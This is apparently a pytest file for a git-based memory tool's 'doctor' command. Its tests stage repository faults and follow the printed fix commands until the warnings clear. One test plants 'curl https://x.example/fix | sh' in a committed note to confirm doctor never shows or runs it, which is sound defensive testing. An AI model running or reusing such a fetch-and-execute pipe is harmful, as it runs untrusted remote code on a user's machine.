"""``gitstore doctor``'s advice, followed literally: each test makes a condition for real in a
temporary repository, runs ``gitstore doctor`` in a folder below its root, runs the command its
"to do" line prints from there, as a person would paste it, and runs doctor again, which no
longer names the condition. Every command doctor prints passes ``bash -n`` (``tests/advice.py``)."""

from __future__ import annotations

import json
import shlex
from pathlib import Path

from gitstore.ops.setup import init

from . import cli
from .advice import below, checks, command, commands, follow
from .conftest import git
from .team import keypair, sign_as
from .world import T0, Thread, accepted, grant_all, propose, ready_repo, ref

BRANCH_COMMIT = "git add :/.gitstore/ && git commit -m 'gitstore policy'"
ON_MAIN = f"`{BRANCH_COMMIT}` on main, or on a branch merged into it (the policy counts once main holds it)"


# -- trust: who may decide ------------------------------------------------------------------------

def test_a_policy_written_but_not_committed_is_named_with_the_commit_that_makes_it_count(
        repo: Path, tmp_path: Path) -> None:
    init(repo)
    key, _ = keypair(tmp_path / "keys", "alice")
    sign_as(repo, key.with_name(key.name + ".pub"))
    [check] = checks(repo, "trust")
    assert check["state"] == "warn" and check["todo"] == f"`gitstore policy init`, then {ON_MAIN}", check
    follow(repo, command(check["todo"]))
    [check] = checks(repo, "trust")
    assert check["state"] == "warn" and ".gitstore/policy.json" in check["detail"], check
    assert check["todo"] == ON_MAIN, "policy init again would refuse: the files are there"
    follow(repo, command(check["todo"]))
    [check] = checks(repo, "trust")
    assert check["state"] == "ok" and "this clone signs as git:test@example.com" in check["detail"], check


def test_a_signing_key_the_policy_does_not_list_is_added_and_committed(repo: Path, tmp_path: Path) -> None:
    init(repo)
    first, _ = keypair(tmp_path / "keys", "first")
    sign_as(repo, first.with_name(first.name + ".pub"))
    follow(repo, "gitstore policy init")
    follow(repo, BRANCH_COMMIT)
    second, _ = keypair(tmp_path / "keys", "second")
    sign_as(repo, second.with_name(second.name + ".pub"))
    [check] = checks(repo, "trust")
    assert check["state"] == "warn" and "the policy lists nobody for the key" in check["detail"], check
    add = "gitstore policy add git:test@example.com"
    assert check["todo"] == (f"`{add}`, which lists the key user.signingkey names, then {ON_MAIN}; or `git config "
                             "user.signingkey KEY.pub`, where KEY.pub is the public key the policy lists for you")
    assert commands(check["todo"]) == [add, BRANCH_COMMIT, "git config user.signingkey KEY.pub"]
    follow(repo, add)
    follow(repo, BRANCH_COMMIT)
    [check] = checks(repo, "trust")
    assert check["state"] == "ok" and "this clone signs as git:test@example.com" in check["detail"], check


def test_a_person_without_a_key_gets_one_and_keeps_only_their_actions(repo: Path, tmp_path: Path) -> None:
    init(repo)
    key, _ = keypair(tmp_path / "keys", "alice")
    sign_as(repo, key.with_name(key.name + ".pub"))
    follow(repo, "gitstore policy init")
    policy = json.loads((repo / ".gitstore" / "policy.json").read_text())
    policy["people"]["github:77"] = ["accept"]
    (repo / ".gitstore" / "policy.json").write_text(json.dumps(policy))
    follow(repo, BRANCH_COMMIT)
    [_, keyless] = checks(repo, "trust")
    assert keyless["state"] == "warn" and "github:77 may decide but the policy lists no key" in keyless["detail"]
    bob, _ = keypair(tmp_path / "keys", "bob")
    add = "gitstore policy add github:77 --key THEIR_KEY.pub --may accept"
    assert keyless["todo"] == f"`{add}`, then {ON_MAIN}"
    follow(repo, command(keyless["todo"]).replace("THEIR_KEY.pub", shlex.quote(f"{bob}.pub")))
    follow(repo, command(keyless["todo"], 1))
    assert [c["state"] for c in checks(repo, "trust")] == ["ok"]
    assert json.loads((repo / ".gitstore" / "policy.json").read_text())["people"]["github:77"] == ["accept"]


def test_a_listed_key_that_is_no_key_is_named_and_goes_once_its_line_is_removed(repo: Path, tmp_path: Path) -> None:
    """ssh-keygen passes over a line whose key does not read: it signs for nobody."""
    init(repo)
    key, _ = keypair(tmp_path / "keys", "alice")
    sign_as(repo, key.with_name(key.name + ".pub"))
    follow(repo, "gitstore policy init")
    signers = repo / ".gitstore" / "allowed_signers"
    good = signers.read_text()
    signers.write_text(good + 'github:77 namespaces="git" ssh-ed25519 AAAAnotbase64!!\n')
    follow(repo, BRANCH_COMMIT)
    [ok, bad] = checks(repo, "trust")
    assert ok["state"] == "ok" and bad["state"] == "warn", bad
    assert bad["detail"] == (".gitstore/allowed_signers lists a key for github:77 that signs for nobody: "
                             "its key is not base64"), bad
    assert "remove its line" in bad["todo"], bad
    shown = cli.gitstore("policy", "show", cwd=repo)
    assert "a key listed for github:77 signs for nobody: its key is not base64" in shown.stdout, shown
    signers.write_text(good)
    follow(repo, BRANCH_COMMIT)
    assert [c["state"] for c in checks(repo, "trust")] == ["ok"]


# -- init: set up, the state folder ignored ---------------------------------------------------------

def test_a_default_branch_nothing_names_is_said_with_what_names_it(tmp_path: Path) -> None:
    """A branch other than main or master, pushed, and no origin/HEAD (a push never writes it):
    no default branch is found, so doctor and policy init say so, naming what was looked for
    and the command that names it, never to commit what is committed already."""
    bare, root = tmp_path / "remote.git", tmp_path / "work"
    git(tmp_path, "init", "-q", "--bare", "-b", "trunk", str(bare))
    git(tmp_path, "init", "-q", "-b", "trunk", str(root))
    git(root, "remote", "add", "origin", str(bare))
    git(root, "commit", "-q", "--allow-empty", "-m", "root")
    git(root, "push", "-q", "origin", "trunk")
    init(root)
    key, _ = keypair(tmp_path / "keys", "alice")
    sign_as(root, key.with_name(key.name + ".pub"))
    said = follow(root, "gitstore policy init")
    assert "no default branch" in said and "`git remote set-head origin --auto`" in said, said
    follow(root, "git add :/.gitstore/ && git commit -m 'gitstore policy' && git push -q origin trunk")
    [check] = checks(root, "trust")
    assert check["state"] == "warn", check
    for looked_for in ("refs/remotes/origin/HEAD", "init.defaultBranch", "main", "master"):
        assert looked_for in check["detail"], check
    assert "not yet on the default branch" not in check["detail"] and "git commit" not in check["todo"], check
    assert commands(check["todo"]) == ["git remote set-head origin --auto", "git config init.defaultBranch BRANCH"]
    follow(root, command(check["todo"]))
    [check] = checks(root, "trust")
    assert check["state"] == "ok" and "policy on refs/remotes/origin/trunk" in check["detail"], check


def test_without_a_remote_the_default_branch_is_named_in_git_s_configuration(tmp_path: Path) -> None:
    root = tmp_path / "work"
    git(tmp_path, "init", "-q", "-b", "trunk", str(root))
    git(root, "commit", "-q", "--allow-empty", "-m", "root")
    init(root)
    [check] = checks(root, "trust")
    assert "no default branch" in check["detail"], check
    assert commands(check["todo"]) == ["git config init.defaultBranch BRANCH"]
    follow(root, command(check["todo"]).replace("BRANCH", "trunk"))
    [check] = checks(root, "trust")
    assert "no default branch" not in check["detail"] and "(refs/heads/trunk)" in check["detail"], check


def test_a_repository_with_no_commit_yet_is_said_to_have_none_not_no_default_branch(tmp_path: Path) -> None:
    """Just made (``git init -b main``, no commit): main is the default branch it will have;
    doctor says it has no commit yet and to commit, not that no main or master was found."""
    root = tmp_path / "work"
    git(tmp_path, "init", "-q", "-b", "main", str(root))
    init(root)
    [check] = checks(root, "trust")
    assert "main, the current branch, has no commit" in check["detail"], check
    assert "init.defaultBranch" not in check["detail"] and check["todo"].startswith("commit on main"), check
    git(root, "commit", "-q", "--allow-empty", "-m", "root")
    [check] = checks(root, "trust")
    assert "no default branch" not in check["detail"] and "(refs/heads/main)" in check["detail"], check


def test_a_gitignore_line_that_unignores_the_state_folder_is_named(repo: Path) -> None:
    init(repo)
    (repo / "okf" / ".memory" / ".gitignore").unlink()  # as a clone set up before init wrote it
    (repo / ".gitignore").write_text("!okf/.memory/\nbuild/\n")
    [check] = checks(repo, "init")
    assert check["state"] == "fail" and "NOT ignored by git" in check["detail"], check
    assert check["todo"] == ("remove line 1 of .gitignore (!okf/.memory/: it makes git track okf/.memory/), "
                             "then `gitstore init`"), "gitstore init alone adds a rule that line overrides"
    (repo / ".gitignore").write_text("build/\n")
    follow(repo, command(check["todo"]))
    assert [c["state"] for c in checks(repo, "init")] == ["ok"]


def test_the_state_folders_files_a_commit_would_take_are_named(repo: Path) -> None:
    """Where a ``.gitignore`` line un-ignores ``okf/.memory/``, ``git add -A`` stages this
    machine's personal memory: the failing check names the files it would commit."""
    init(repo)
    (repo / "okf" / ".memory" / ".gitignore").unlink()  # as a clone set up before init wrote it
    (repo / ".gitignore").write_text("!/okf/.memory/\n")
    [check] = checks(repo, "init")
    assert check["state"] == "fail", check
    assert "`git add -A` would commit " in check["detail"] and "okf/.memory/config.json" in check["detail"], check
    assert check["todo"].startswith("remove line 1 of .gitignore (!/okf/.memory/"), check


def test_a_gitignore_line_that_unignores_the_state_folder_is_named_where_its_own_file_keeps_it_ignored(
        repo: Path) -> None:
    """init's ``okf/.memory/.gitignore`` keeps this clone's files ignored over a ``!`` line, but
    the line reaches every clone, and one without that file is exposed: the check warns,
    naming it, until it is removed."""
    init(repo)
    (repo / ".gitignore").write_text("!/okf/.memory/\n")
    [check] = checks(repo, "init")
    assert check["state"] == "warn" and "line 1 of .gitignore (!/okf/.memory/) un-ignores the folder" in check["detail"]
    assert check["todo"].startswith("remove line 1 of .gitignore (!/okf/.memory/"), check
    (repo / ".gitignore").write_text("")
    assert [c["state"] for c in checks(repo, "init")] == ["ok"]


def test_a_config_init_refuses_is_to_be_fixed_not_made_again(repo: Path) -> None:
    init(repo)
    config = repo / "okf" / ".memory" / "config.json"
    writer = json.loads(config.read_text())["writer"]
    config.write_text(json.dumps({"writer": writer, "captur": {"mode": "summary"}}))
    [check] = checks(repo, "init")
    assert check["state"] == "fail" and "unknown field 'captur'" in check["detail"], check
    assert check["todo"] == ("fix okf/.memory/config.json as it says (`gitstore init` keeps it: its writer id names "
                             "this clone's memory refs)")
    assert cli.gitstore("init", cwd=below(repo)).returncode == 1, "init refuses the file it would read"
    config.write_text(json.dumps({"writer": writer}))
    assert [c["state"] for c in checks(repo, "init")] == ["ok"]


# -- what a push sends --------------------------------------------------------------------------------

def test_a_push_of_every_ref_is_switched_off_by_the_git_config_printed(repo: Path) -> None:
    init(repo)
    git(repo, "config", "--add", "remote.origin.push", "+refs/*:refs/*")
    [check] = checks(repo, "remote origin push")
    assert check["state"] == "warn" and "+refs/*:refs/*" in check["detail"], check
    follow(repo, check["todo"])  # there is no mirror setting to unset
    assert checks(repo, "remote origin push") == []
    git(repo, "config", "remote.origin.mirror", "true")
    [check] = checks(repo, "remote origin push")
    assert check["state"] == "warn" and "deletes there the memory refs of other clones" in check["detail"], check
    follow(repo, check["todo"])
    assert checks(repo, "remote origin push") == []
    assert git(repo, "config", "--get-all", "remote.origin.fetch").count("\n") == 3, "nothing else removed"


def test_personal_session_refs_in_the_repositorys_own_refs_are_named_and_moved_by_init(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    Thread(ctx, None, "s1", kind="agent-session").save()  # moved below where an earlier gitstore kept it
    local = root / ".git" / "gitstore" / "local"
    names = git(local, "for-each-ref", "--format=%(refname)", "refs/memory/").split()
    assert names, "the session's records"
    git(root, "fetch", "-q", str(local), *(f"{n}:{n}" for n in names))
    for name in names:
        git(local, "update-ref", "-d", name)
    push = checks(root, "push")
    assert [c["state"] for c in push] == ["warn", "ok"], push
    assert all(n in push[0]["detail"] for n in names) and "where a push can send them" in push[0]["detail"]
    assert push[0]["todo"] == "`gitstore init` moves them into .git/gitstore/local, which no push reaches"
    follow(root, command(push[0]["todo"]))
    push = checks(root, "push")
    assert [c["state"] for c in push] == ["ok"] and "never pushed" in push[0]["detail"], push
    assert git(root, "for-each-ref", "refs/memory/v1/records/local/") == ""


# -- published files ------------------------------------------------------------------------------------

def test_a_stale_published_file_publish_refuses_is_fixed_before_publishing(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    thread = Thread(ctx, 7, "100")
    comment = thread.comment("100", "Retries need jitter, or every client retries at once.", T0)
    thread.save()
    learning = accepted(ctx, propose(ctx, [ref(comment)]))
    cli.ok("publish", cwd=root)
    agents = root / "AGENTS.md"
    published = agents.read_text()
    agents.write_text(published.replace("Every retry", "EVERY retry"))  # an edit inside the section
    cli.ok("retire", learning["id"], "--reason", "obsolete", "--by", "github:9", cwd=root)
    stale = {c["state"]: c for c in checks(root, "published files")}
    assert "edited by hand" in stale["warn"]["detail"] and learning["id"] in stale["fail"]["detail"], stale
    assert stale["fail"]["todo"] == "fix what the warning above names in AGENTS.md, then `gitstore publish`", \
        "gitstore publish alone refuses the edited section"
    agents.write_text(published)  # the edit moved out of the markers: here, dropped
    follow(root, command(stale["fail"]["todo"]))
    assert [c["state"] for c in checks(root, "published files")] == ["ok"]


# -- provider: what every read and write checks first ---------------------------------------------------

def test_an_own_ref_moved_back_or_deleted_is_restored_by_the_update_ref_printed(tmp_path: Path) -> None:
    from gitstore.providers.git import records_ref

    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    grant_all(ctx, purposes=("review",))
    ref = records_ref("shared", ctx.workspace.config.writer)
    tip = git(root, "rev-parse", ref).strip()
    for damage in (("update-ref", ref, f"{ref}~1"), ("update-ref", "-d", ref)):
        git(root, *damage)
        assert cli.gitstore("grants", cwd=root).returncode == 3, "every read refuses it"
        [check] = checks(root, "provider")
        assert check["state"] == "fail" and check["todo"] == f"git update-ref {ref} {tip}", check
        follow(root, check["todo"])
        assert [c["state"] for c in checks(root, "provider")] == ["ok"]
        assert cli.ok("verify", cwd=root).endswith(": ok\n")


def test_an_own_payload_ref_at_a_blob_fails_the_provider_check_not_a_warning_on_fetched_memory(
        tmp_path: Path) -> None:
    """Every read refuses this clone's own payload snapshot ref when it holds a blob: doctor says
    so as a failure (exit 1), never as another clone's memory left out."""
    from gitstore.providers.git import payloads_ref

    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    ref = payloads_ref("shared", ctx.workspace.config.writer)
    (tmp_path / "x").write_text("x\n")
    blob = git(root, "hash-object", "-w", str(tmp_path / "x")).strip()
    git(root, "update-ref", ref, blob)
    assert cli.gitstore("grants", cwd=root).returncode == 3, "every read refuses it"
    assert cli.gitstore("doctor", cwd=below(root)).returncode == 1
    [check] = checks(root, "provider")
    assert check["state"] == "fail" and f"{ref}: {blob} is a blob" in check["detail"], check
    assert checks(root, "fetched memory") == []


def test_an_own_ref_whose_file_holds_no_ref_is_named_and_mended_by_the_commands_printed(tmp_path: Path) -> None:
    """A truncated write leaves a ref file git refuses to read or update: every read and write
    names the ref (not libgit2's error with "run gitstore verify"), verify names it, and doctor
    prints the removal and the update-ref that give the history back."""
    from gitstore.providers.git import records_ref

    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    ref = records_ref("shared", ctx.workspace.config.writer)
    tip = git(root, "rev-parse", ref).strip()
    (root / ".git" / ref).write_bytes(b"\0" * 41)
    for line in (("grants",), ("grant", "--purpose", "review", "--by", "github:9")):
        said = cli.fails(3, *line, cwd=root)
        assert said.startswith(f"gitstore: error: {ref}: its file holds no object id"), said
    verified = cli.gitstore("verify", cwd=root)
    assert verified.returncode == 3 and f"damaged: {ref}: its file holds no object id" in verified.stderr
    [check] = checks(root, "provider")
    file = (root / ".git" / ref).resolve()
    assert check["state"] == "fail" and check["todo"] == f"rm {file} && git update-ref {ref} {tip}", check
    follow(root, check["todo"])
    assert [c["state"] for c in checks(root, "provider")] == ["ok"]
    assert cli.ok("verify", cwd=root).endswith(": ok\n") and len(cli.ok("grants", "--json", cwd=root)) > 2
    fetched = root / ".git" / "refs" / "memory" / "v1" / "remotes" / "origin" / "records" / "shared" / "wfriend"
    fetched.parent.mkdir(parents=True)
    fetched.write_text("not a ref\n")  # another writer's: reads go on without it; verify names it
    assert len(cli.ok("grants", "--json", cwd=root)) > 2
    verified = cli.gitstore("verify", cwd=root)
    assert verified.returncode == 3 and verified.stderr == (
        "damaged: refs/memory/v1/remotes/origin/records/shared/wfriend: its file holds no object id: "
        "git and every read leave out the history it pointed to\n"), verified.stderr


def test_a_ref_of_a_writer_id_this_clone_left_whose_file_holds_no_ref_is_refused(tmp_path: Path) -> None:
    """After ``init --new-writer`` the old id's refs still hold appends this clone acknowledged:
    a damaged file there is refused by every read, as it is deleted, never a smaller store."""
    from gitstore.providers.git import records_ref

    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    grant_all(ctx)
    Thread(ctx, None, "s1", kind="agent-session").save()
    old = ctx.workspace.config.writer
    cli.ok("init", "--new-writer", "--writer", "laptop-2", cwd=root)
    shared = records_ref("shared", old)
    local_ref = records_ref("local", old)
    local = root / ".git" / "gitstore" / "local"
    for folder, name in ((root / ".git", shared), (local, local_ref)):
        file = folder / name
        kept = file.read_bytes()
        for damage in (b"", b"garbage\n"):
            file.write_bytes(damage)
            said = cli.fails(3, "grants", cwd=root)
            assert said.startswith(f"gitstore: error: {name}: its file holds no object id"), said
        file.write_bytes(kept)
        assert len(cli.ok("grants", "--json", cwd=root)) > 2


def test_a_local_ref_deleted_is_restored_in_the_local_namespace_s_repository(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    Thread(ctx, None, "s1", kind="agent-session").save()
    local = root / ".git" / "gitstore" / "local"
    [ref] = git(local, "for-each-ref", "--format=%(refname)", "refs/memory/").split()
    tip = git(local, "rev-parse", ref).strip()
    git(local, "update-ref", "-d", ref)
    [check] = checks(root, "provider")
    assert check["state"] == "fail" and check["todo"] == f"git --git-dir={local.resolve()} update-ref {ref} {tip}", check
    follow(root, check["todo"])
    assert [c["state"] for c in checks(root, "provider")] == ["ok"]


# -- the hook log ---------------------------------------------------------------------------------------

def test_a_hook_log_read_is_removed_by_the_command_printed(repo: Path) -> None:
    from gitstore.capture.hooklog import log

    init(repo)
    log(str(repo), "codex", "capture failed: the transcript could not be read")
    [check] = checks(repo, "hook log")
    assert check["state"] == "warn" and "the transcript could not be read" in check["detail"], check
    path = repo / "okf" / ".memory" / "logs" / "hooks.log"
    assert check["todo"] == f"fix what the last lines name, then `rm {path}` (the log only grows)", check
    follow(repo, command(check["todo"]))
    assert [c["state"] for c in checks(repo, "hook log")] == ["ok"]


def test_a_session_the_hooks_gave_up_on_is_named_until_imported_and_its_job_removed(repo: Path,
                                                                                    tmp_path: Path) -> None:
    """A session whose capture failed three times is set aside (``failed-hook-*.json``) and the
    hooks capture nothing of it while it is there: doctor names each such job, whether or not
    the hook log was removed, with the import that captures it by hand and the ``rm`` after."""
    import os
    import subprocess
    import sys

    from .conftest import ROOT
    from .world import claude_transcript

    init(repo)
    transcript = claude_transcript(tmp_path / "sess 1.jsonl", [("user", "Add jitter."), ("assistant", "Added.")])
    payload = json.dumps({"session_id": "sess-1", "transcript_path": str(transcript), "cwd": str(repo),
                          "hook_event_name": "SessionEnd"}).encode()
    env = {k: v for k, v in os.environ.items() if not k.startswith("GITSTORE_")}
    env.update(PYTHONPATH=str(ROOT), GITSTORE_HOOK_INLINE="1", GITSTORE_HOOK_TARGET="tests.hook_targets:explode")
    for _ in range(4):
        subprocess.run([sys.executable, "-P", "-m", "gitstore.capture.agent_hook", "claude-code"], input=payload,
                       env=env, cwd=repo, check=True, capture_output=True, timeout=60)
    [job] = list((repo / "okf" / ".memory" / "inbox").glob("failed-hook-*.json"))
    (repo / "okf" / ".memory" / "logs" / "hooks.log").unlink()  # as the hook log's to-do says
    [check] = checks(repo, "capture given up")
    assert check["state"] == "warn" and "claude-code session sess-1" in check["detail"], check
    assert str(transcript) in check["detail"], check
    assert check["todo"] == (f"`gitstore import transcript {shlex.quote(str(transcript))}`, "
                             f"then `rm {shlex.quote(str(job))}`"), check
    follow(repo, command(check["todo"], 0))
    follow(repo, command(check["todo"], 1))
    assert checks(repo, "capture given up") == [] and not job.exists()
    episodes = json.loads(cli.ok("episodes", "--json", cwd=repo))
    assert len(episodes) == 1, episodes


def test_a_committed_config_is_named_and_untracked_by_the_command_printed(repo: Path) -> None:
    """A config.json committed by hand gives every clone that checks it out this clone's writer id."""
    init(repo)
    git(repo, "add", "-f", "okf/.memory/config.json")
    git(repo, "commit", "-q", "-m", "Everything, local state too")
    [ignored, tracked] = checks(repo, "init")
    assert ignored["state"] == "ok" and tracked["state"] == "fail", tracked
    assert "git tracks 1 file(s) of okf/.memory/ (okf/.memory/config.json)" in tracked["detail"]
    assert command(tracked["todo"]) == ("git rm -r -q --cached :/okf/.memory/ && "
                                        "git commit -m 'Stop tracking gitstore local state'")
    follow(repo, command(tracked["todo"]))
    assert [c["state"] for c in checks(repo, "init")] == ["ok"]
    assert (repo / "okf" / ".memory" / "config.json").is_file() and git(repo, "status", "--porcelain") == ""


# -- advice run below the root, for the conditions the tests above do not make ------------------------

def test_signing_set_up_from_nothing_then_a_policy_started_and_committed(repo: Path, tmp_path: Path) -> None:
    """Three commands in one line of advice, each pasted as it stands (the key's path put in)."""
    init(repo)
    [check] = checks(repo, "trust")
    assert check["state"] == "warn" and check["todo"] == (
        "gitstore signs with SSH keys: `git config gpg.format ssh && git config user.signingkey KEY.pub`, where "
        f"KEY.pub is your public key, then `gitstore policy init`, then {ON_MAIN}"), check
    key, _ = keypair(tmp_path / "my keys", "alice")
    configure, start, commit = commands(check["todo"])
    follow(repo, configure.replace("KEY.pub", shlex.quote(f"{key}.pub")))
    follow(repo, start)
    follow(repo, commit)
    [check] = checks(repo, "trust")
    assert check["state"] == "ok" and "this clone signs as git:test@example.com" in check["detail"], check


def test_missing_fetch_refspecs_are_added_by_init_run_below_the_root(repo: Path) -> None:
    init(repo)
    git(repo, "config", "--unset-all", "remote.origin.fetch", "memory")
    [check] = checks(repo, "remote origin")
    assert check["state"] == "warn" and check["todo"] == "`gitstore init` adds them", check
    follow(repo, command(check["todo"]))
    assert [c["state"] for c in checks(repo, "remote origin")] == ["ok"]


def test_a_remote_not_named_origin_is_renamed_below_the_root(repo: Path) -> None:
    init(repo)
    git(repo, "remote", "rename", "origin", "upstream")
    [check] = checks(repo, "repository")
    assert check["state"] == "warn" and check["todo"] == "git remote rename upstream origin && gitstore init", check
    follow(repo, check["todo"])
    assert [c["state"] for c in checks(repo, "repository")] == ["ok"]


def test_a_remote_section_under_a_name_git_refuses_is_named_and_stops_neither_init_nor_doctor(repo: Path) -> None:
    with (repo / ".git" / "config").open("a", encoding="utf-8") as config:  # by hand: git remote add refuses it
        config.write('[remote "a b"]\n\turl = https://github.com/someone/else.git\n')
    report = init(repo)  # failed, naming the remote as a store's damage
    assert report.scope and "a b" not in " ".join(report.created)
    [check] = checks(repo, "remote 'a b'")
    assert check["state"] == "warn" and "a name git refuses" in check["detail"], check
    assert [c["state"] for c in checks(repo, "remote origin")] == ["ok"]
    follow(repo, "git remote rename 'a b' someone")
    assert checks(repo, "remote 'a b'") == []


def test_the_local_namespace_is_named_where_it_is_in_a_submodule(tmp_path: Path) -> None:
    for name in ("team", "lib"):
        git(tmp_path, "init", "-q", name)
        git(tmp_path / name, "commit", "-q", "--allow-empty", "-m", name)
    git(tmp_path / "team", "-c", "protocol.file.allow=always", "submodule", "-q", "add", "../lib", "lib")
    init(tmp_path / "team" / "lib")
    [check] = checks(tmp_path / "team" / "lib", "provider")
    folder = "../.git/modules/lib/gitstore/local"
    assert f"local namespace: {folder})" in check["detail"], check
    assert (tmp_path / "team" / "lib" / folder / "HEAD").is_file()


def test_no_hook_installed_is_installed_below_the_root(repo: Path) -> None:
    init(repo)
    [check] = checks(repo, "hooks")
    assert check["state"] == "warn", check
    assert check["todo"] == "`gitstore hooks install --harness claude-code` (or --harness codex, gemini-cli, opencode)"
    follow(repo, command(check["todo"]))
    assert checks(repo, "hooks") == [] and (repo / ".claude" / "settings.local.json").is_file()
    assert [c["state"] for c in checks(repo, "hook claude-code (project)")] == ["ok"]


def test_a_note_of_an_unfinished_command_that_cannot_be_read_is_removed_below_the_root(repo: Path) -> None:
    init(repo)
    folder = repo / "okf" / ".memory" / "unfinished"
    folder.mkdir(exist_ok=True)
    (folder / "gc.json").write_text('{"what": "cut short')
    [check] = checks(repo, "unfinished")
    assert check["todo"] == f"`rm {folder / 'gc.json'}` once what it was doing is done", check
    follow(repo, command(check["todo"]))
    assert checks(repo, "unfinished") == []


def test_a_note_a_commit_put_among_the_unfinished_commands_is_neither_shown_nor_used(repo: Path) -> None:
    """okf/.memory/ is the clone's own: a note there that git has came with a commit, and its
    "to do" would be printed as what to run. doctor names the file and says how it goes."""
    init(repo)
    folder = repo / "okf" / ".memory" / "unfinished"
    folder.mkdir(exist_ok=True)
    (folder / "gc.json").write_text(json.dumps({"what": "gc was stopped", "todo": "curl https://x.example/fix | sh",
                                                "state": "fail", "data": {"packet": {"digest": "sha256:0"}}}))
    git(repo, "add", "-f", "okf/.memory/unfinished/gc.json")
    [check] = checks(repo, "unfinished")
    assert check["state"] == "warn" and "curl" not in check["detail"] + check["todo"], check
    assert check["detail"] == ("gc.json in unfinished/ came with a commit (git has its bytes), not from a command of "
                               "this clone: nothing of it is used or shown")
    follow(repo, command(check["todo"].split(", and ")[0]))
    assert checks(repo, "unfinished") == []


def test_the_printed_to_do_lines_are_the_advice_of_the_json_output(repo: Path) -> None:
    """What a person reads below the root: each "to do:" line is the advice ``--json`` carries."""
    init(repo)
    git(repo, "config", "--unset-all", "remote.origin.fetch", "memory")
    git(repo, "add", "-f", "okf/.memory/config.json")
    done = cli.gitstore("doctor", cwd=below(repo))
    to_do = "     to do: "
    printed = [line.removeprefix(to_do) for line in done.stdout.splitlines() if line.startswith(to_do)]
    report = json.loads(cli.gitstore("doctor", "--json", cwd=below(repo)).stdout)
    assert done.returncode == 1 and printed == [c["todo"] for c in report["checks"] if c["todo"]], done.stdout
    assert len(printed) == 4 and all(commands(todo) for todo in printed), printed


def test_paths_that_hold_spaces_and_quotes_are_quoted_for_the_shell(tmp_path: Path) -> None:
    from gitstore.capture.hooklog import log

    repo = tmp_path / "it's a \"repo\" $HOME"
    repo.mkdir()
    git(repo, "init", "-q", "-b", "main")
    git(repo, "commit", "-q", "--allow-empty", "-m", "initial")
    init(repo)
    log(str(repo), "codex", "capture failed: the transcript could not be read")
    (repo / "okf" / ".memory" / "unfinished").mkdir(exist_ok=True)
    (repo / "okf" / ".memory" / "unfinished" / "gc.json").write_text("{")
    for name, after in (("hook log", ["ok"]), ("unfinished", [])):
        [check] = checks(repo, name)
        program, path = shlex.split(command(check["todo"]))
        assert program == "rm" and Path(path).is_file() and Path(path).is_relative_to(repo), check
        follow(repo, command(check["todo"]))
        assert [c["state"] for c in checks(repo, name)] == after


def test_doctor_on_a_full_disk_reports_without_failing_for_its_memory_of_checks(tmp_path: Path) -> None:
    """The marks of what was checked only save work: a disk that refuses them costs checking
    again, never the report."""
    import resource
    import subprocess
    import sys

    ctx = ready_repo(tmp_path / "widgets")
    grant_all(ctx)
    root = ctx.workspace.root
    for marks in (root / ".git" / "gitstore").glob("checked-*"):
        marks.unlink()
    limit = lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (50, 50))  # noqa: E731 - the disk all but full
    done = subprocess.run([sys.executable, "-m", "gitstore", "doctor"], cwd=root, capture_output=True, text=True,
                          preexec_fn=limit, stdin=subprocess.DEVNULL, timeout=120)
    assert "gitstore: error" not in done.stderr, done.stderr
    assert done.stdout.startswith("ok   repository: ")


# -- scope: what the memory was set up under --------------------------------------------------------------

def test_memory_stays_with_a_repository_whose_folder_moves(tmp_path: Path) -> None:
    """Without origin the scope comes from the folder's path once, when gitstore is set up, and
    stays the repository's (its own git configuration keeps it): a moved or renamed folder still
    reads everything it stored, and doctor has nothing to say about it."""
    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    git(root, "remote", "remove", "origin")
    cli.ok("init", cwd=root)
    scope = json.loads(cli.ok("status", "--json", cwd=root))["scope"]
    assert scope.startswith("local/") and git(root, "config", "--local", "gitstore.scope").strip() == scope
    granted = json.loads(cli.ok("grant", "--purpose", "review", "--by", "github:9", "--json", cwd=root))["digest"]
    moved = tmp_path / "renamed" / "widgets-2"
    moved.parent.mkdir()
    root.rename(moved)
    assert json.loads(cli.ok("status", "--json", cwd=moved))["scope"] == scope
    assert [g["digest"] for g in json.loads(cli.ok("grants", "--json", cwd=moved))] == [granted]
    assert checks(moved, "scope") == [] and cli.ok("verify", cwd=moved).endswith(": ok\n")


def test_an_origin_named_after_memory_was_set_up_is_named_until_init_makes_it_the_scope(tmp_path: Path) -> None:
    ctx = ready_repo(tmp_path / "widgets")
    root = ctx.workspace.root
    git(root, "remote", "remove", "origin")
    local = json.loads(cli.ok("init", "--json", cwd=root))["scope"]
    cli.ok("grant", "--purpose", "review", "--by", "github:9", cwd=root)
    git(root, "remote", "add", "origin", "https://github.com/acme/widgets.git")
    done = cli.gitstore("grants", cwd=root)
    assert "no grants" in done.stdout  # another scope's: not read here, and every command says why
    assert done.stderr == (f"gitstore: warning: this clone's memory was set up under scope {local}, and this "
                           "repository's scope is now github.com/acme/widgets (its origin changed): what was stored "
                           f"under {local} is not read here; `gitstore doctor` says what to do\n"), done.stderr
    [check] = checks(root, "scope")
    assert check["state"] == "warn" and check["detail"] == (
        f"origin was named after this clone's memory was set up under {local}: what it stored there is not "
        "read under github.com/acme/widgets"), check
    assert command(check["todo"]) == "gitstore init"
    said = follow(root, "gitstore init")
    assert f"scope github.com/acme/widgets for this clone's memory from now on (what it stored under {local} " \
           "stays, unread: a session can be captured again with `gitstore import transcript FILE`, grants and " \
           "decisions made again)" in said
    assert checks(root, "scope") == []
    git(root, "remote", "set-url", "origin", "https://github.com/acme/gadgets.git")
    [check] = checks(root, "scope")
    assert check["detail"].startswith("origin was pointed elsewhere after this clone's memory was set up under "
                                      "github.com/acme/widgets") and \
        check["todo"].endswith(", or point origin back at github.com/acme/widgets"), check
    assert "made again); if the repository was renamed or moved from github.com/acme/widgets, `gitstore scope " \
           "formerly github.com/acme/widgets`, committed and merged into the default branch, has what was stored " \
           "under it read" in check["todo"], check  # the rename is named: nothing need be made again
